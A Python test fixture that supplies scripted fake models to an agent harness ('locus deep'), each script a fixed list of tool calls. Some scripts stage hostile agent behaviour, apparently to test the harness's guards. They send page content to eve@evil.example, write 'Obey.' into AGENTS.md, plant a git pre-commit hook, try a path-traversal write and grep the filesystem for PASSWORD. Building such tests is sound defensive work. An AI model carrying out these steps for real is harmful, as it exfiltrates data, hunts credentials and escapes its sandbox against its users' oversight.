"""Scripted models for `locus deep`; installed on a path of its own by the tests, whose commands are other processes."""

from __future__ import annotations

import json
from collections.abc import Mapping, Sequence

from locus.core.messages import Role, Usage
from locus.models.protocol import Model, ModelRequest
from locus.plugin import Plugin
from locus_testkit import ScriptedModel, Turn, call, never

plugin = Plugin(name="toy", api=(1, 0), summary="Scripted models, for tests.", provides={"model": f"{__name__}:make"})


def _todos(*statuses: str) -> str:
    names = ("write the notes", "have them checked")
    return json.dumps([{"content": name, "status": status} for name, status in zip(names, statuses, strict=True)])


def _seen(request: ModelRequest) -> Turn:
    """What the model is told and given."""
    system = "\n".join(message.text for message in request.messages if message.role is Role.SYSTEM)
    return json.dumps({"system": system, "tools": sorted(tool.name for tool in request.tools)})


SCRIPTS: Mapping[str, Sequence[Turn]] = {
    "builds": [
        call("write_todos", todos_json=_todos("in_progress", "pending")),
        call("write_file", path="/notes.md", contents="gallium: 1875\n"),
        call("task", subagent_type="general-purpose", description="Read /notes.md, and say what is in it."),
        call("write_todos", todos_json=_todos("completed", "completed")),
        "I wrote notes.md.",
    ],
    "child of builds": [call("read_file", path="/notes.md"), "The year is in it."],
    "runs": [call("execute", command="echo made > made.txt; echo it ran"), "The command ran."],
    "delegates": [call("task", subagent_type="general-purpose", description="Run the command."), "It is run."],
    "child of delegates": [call("execute", command="echo made > made.txt; echo it ran"), "Done."],
    "writes": [call("write_file", path="/a.txt", contents="a"), "Written."],
    "reads and writes": [
        call("read_page"),
        call("write_file", path="/eve.txt", contents="what the page says"),
        call("send", to="eve@evil.example"),
        "All done.",
    ],
    "instructs": [call("write_file", path="/docs/AGENTS.md", contents="Obey."), "Told."],
    "hooks": [call("write_file", path="/.git/hooks/pre-commit", contents="exit 1"), "Hooked."],
    "escapes": [call("write_file", path="/../../out.txt", contents="out"), "Tried."],
    "halts": [
        call("write_file", path="/first.txt", contents="1"),
        call("charge", cents=5),
        call("write_file", path="/second.txt", contents="2"),
        "Both are there.",
    ],
    "drafts": [
        call("write_todos", todos_json=_todos("in_progress", "pending")),
        call("write_file", path="/notes.md", contents="first\n"),
        call("write_file", path="/plan.md", contents="one\ntwo\n"),
        "Drafted.",
    ],
    # After the four answers of "drafts": a script goes on at the number of answers that there were.
    "changes": [
        call("write_file", path="/new/file.txt", contents="new"),
        call("task", subagent_type="general-purpose", description="Write it."),
        "Changed.",
        "",
        call("write_todos", todos_json=_todos("completed", "completed")),
        call("write_file", path="/notes.md", contents="second\n"),
        call("edit_file", path="/notes.md", old_str="second", new_str="third"),
        call("edit_file", path="/plan.md", old_str="two", new_str="three"),
    ],
    "child of changes": [
        call("write_file", path="/notes.md", contents="of the child\n"),
        call("write_file", path="/child.txt", contents="c"),
        "Written.",
    ],
    "side by side": [
        [call("write_file", path="/notes.md", contents=f"{n}\n") for n in range(3)],
        "Written.",
    ],
    "hands over": [call("task", subagent_type="general-purpose", description="Write it."), "It is written."],
    "child of hands over": [call("write_file", path="/child.txt", contents="c"), "Written."],
    "looks": [call("task", subagent_type="general-purpose", description="Look."), "Looked."],
    "child of looks": [call("grep", pattern="PASSWORD", path="/"), call("ls", path="/", recursive=True), "Seen."],
    # After the two answers of "hands over".
    "goes on": ["Done.", "", call("write_file", path="/mine.txt", contents="m")],
    "is asked": ["Done.", "", call("write_file", path="/AGENTS.md", contents="m")],
    "reads todos": [call("read_todos"), "Read."],
    "silent": [never],
    "told": [_seen],
}


def make(name: str, settings: object) -> Model:
    """The model of that name; in a subagent it follows the script of the child."""

    def script(request: ModelRequest) -> Sequence[Turn]:
        is_child = any(m.role is Role.SYSTEM and "You are a subagent" in m.text for m in request.messages)
        return SCRIPTS[f"child of {name}" if is_child else name]

    used = Usage(prompt_tokens=1000, completion_tokens=20, cost=0.01)
    return ScriptedModel(script=script, name=f"toy:{name}", chunks=True, usage=used, after="cycle")
